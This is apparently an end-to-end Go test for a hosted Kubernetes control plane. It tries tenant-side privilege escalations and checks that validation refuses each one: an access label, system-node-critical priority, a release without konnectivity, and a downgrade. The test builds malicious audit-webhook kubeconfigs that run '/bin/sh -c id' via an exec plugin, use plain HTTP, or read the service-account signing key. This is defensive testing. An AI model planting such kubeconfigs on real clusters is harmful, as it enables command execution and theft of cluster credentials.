//go:build e2e

package e2e

import (
	"context"
	"fmt"
	"io"
	"strings"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	hyperv1 "github.com/hosted-control-planes/hypershift/api/hypershift/v1beta1"
	"github.com/hosted-control-planes/hypershift/internal/names"
	"github.com/hosted-control-planes/hypershift/test/lab/cluster"
	"github.com/hosted-control-planes/hypershift/test/lab/images"
)

// apiServer returns the Deployment of the hosted API server.
func (h *hosted) apiServer() *appsv1.Deployment {
	h.t.Helper()
	d := &appsv1.Deployment{}
	h.must(h.management.Get(h.t.Context(), client.ObjectKey{Namespace: h.namespace(), Name: names.KubeAPIServer}, d))
	return d
}

// attackLabels tries to set the label that lets pods reach the management API server on pods of the control plane.
func (h *hosted) attackLabels() {
	label := func(hc *hyperv1.HostedCluster) {
		hc.Spec.Labels = map[string]hyperv1.LabelValue{names.ManagementAccessLabel: "true"}
	}
	if !h.attempt(label, "labels") {
		return // no object was written, so that no effect can follow
	}
	h.refused(hyperv1.ValidHostedClusterConfiguration, names.ManagementAccessLabel)
	h.never("pods of the API server carry the label of pods that may reach the management cluster", func() bool {
		return h.apiServer().Spec.Template.Labels[names.ManagementAccessLabel] != ""
	})
	h.restore(func(hc *hyperv1.HostedCluster) { hc.Spec.Labels = nil })
}

// attackKubeconfig tries to make the API server run a program, and send its audit log to an address without TLS.
func (h *hosted) attackKubeconfig() {
	for what, text := range map[string]string{
		"exec": evilKubeconfig("https://10.1.2.3:8443", `exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, id], interactiveMode: Never}`),
		"http": evilKubeconfig("http://10.1.2.3:9445/drain", "token: abc"),
		"file": evilKubeconfig("https://10.1.2.3:8443", "tokenFile: /etc/kubernetes/service-account/service-account.key"),
	} {
		secret := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: h.hc.Namespace, Name: h.hc.Name + "-evil-" + what}, StringData: map[string]string{"webhook-kubeconfig": text}}
		// A run that was aborted leaves its Secrets.
		h.must(client.IgnoreAlreadyExists(h.management.Create(h.t.Context(), secret)))
		h.t.Cleanup(func() { h.must(h.management.Delete(context.WithoutCancel(h.t.Context()), secret)) })
		h.change(func(hc *hyperv1.HostedCluster) {
			hc.Spec.AuditWebhook = &corev1.LocalObjectReference{Name: secret.Name}
		})
		h.refused(hyperv1.ValidHostedClusterConfiguration, secret.Name)
		if args := strings.Join(h.apiServer().Spec.Template.Spec.Containers[0].Args, " "); strings.Contains(args, "audit-webhook-config-file") {
			h.t.Errorf("the API server uses a kubeconfig with %s", what)
		}
	}
	h.restore(func(hc *hyperv1.HostedCluster) { hc.Spec.AuditWebhook = nil })
}

func evilKubeconfig(server, user string) string {
	return fmt.Sprintf(`apiVersion: v1
kind: Config
clusters: [{name: a, cluster: {server: %q}}]
users:
- name: a
  user:
    %s
contexts: [{name: a, context: {cluster: a, user: a}}]
current-context: a
`, server, user)
}

// attackPriority requests a priority at which the scheduler preempts pods of other tenants and of the management cluster.
func (h *hosted) attackPriority() {
	h.change(func(hc *hyperv1.HostedCluster) {
		metav1.SetMetaDataAnnotation(&hc.ObjectMeta, hyperv1.ControlPlanePriorityClassAnnotation, "system-node-critical")
	})
	h.refused(hyperv1.ValidHostedClusterConfiguration, "system-node-critical")
	h.never("pods of the tenant have the priority of the node's own", func() bool {
		pods, err := h.pods(h.t.Context())
		h.must(err)
		for _, p := range pods {
			if p.Spec.PriorityClassName == "system-node-critical" {
				return true
			}
		}
		return false
	})
	h.restore(func(hc *hyperv1.HostedCluster) { delete(hc.Annotations, hyperv1.ControlPlanePriorityClassAnnotation) })
}

// attackKonnectivity chooses a release without the konnectivity server. The API server would then connect to nodes, pods
// and Services itself, from the management network.
func (h *hosted) attackKonnectivity() {
	d := images.Describe(on.Images, on.Versions[0])
	delete(d.Components, names.KonnectivityServer)
	without, err := images.PushRelease(h.t.Context(), images.Options{Registry: cluster.Registry, Progress: io.Discard}, "without-konnectivity", d)
	h.must(err)
	h.attackRelease("a release without konnectivity-server", names.KonnectivityServer, func(hc *hyperv1.HostedCluster) { hc.Spec.Release.Image = without })
}

// attackDowngrade downgrades the control plane by one minor version through the field that only the control plane reads.
func (h *hosted) attackDowngrade() {
	h.attackRelease("an older minor version", on.Versions[1], func(hc *hyperv1.HostedCluster) {
		hc.Spec.ControlPlaneRelease = &hyperv1.Release{Image: release(h.t, on.Versions[1])}
	})
}

func (h *hosted) attackRelease(what, word string, edit func(*hyperv1.HostedCluster)) {
	before, was := h.apiServer().Spec.Template, *h.hc.Spec.DeepCopy()
	h.change(edit)
	h.refused(hyperv1.ValidReleaseImage, word)
	h.never("the API server was rolled out from "+what, func() bool {
		now := h.apiServer().Spec.Template
		return now.Spec.Containers[0].Image != before.Spec.Containers[0].Image || len(now.Spec.Containers) != len(before.Spec.Containers)
	})
	h.restore(func(hc *hyperv1.HostedCluster) {
		hc.Spec.Release, hc.Spec.ControlPlaneRelease = was.Release, was.ControlPlaneRelease
	})
}
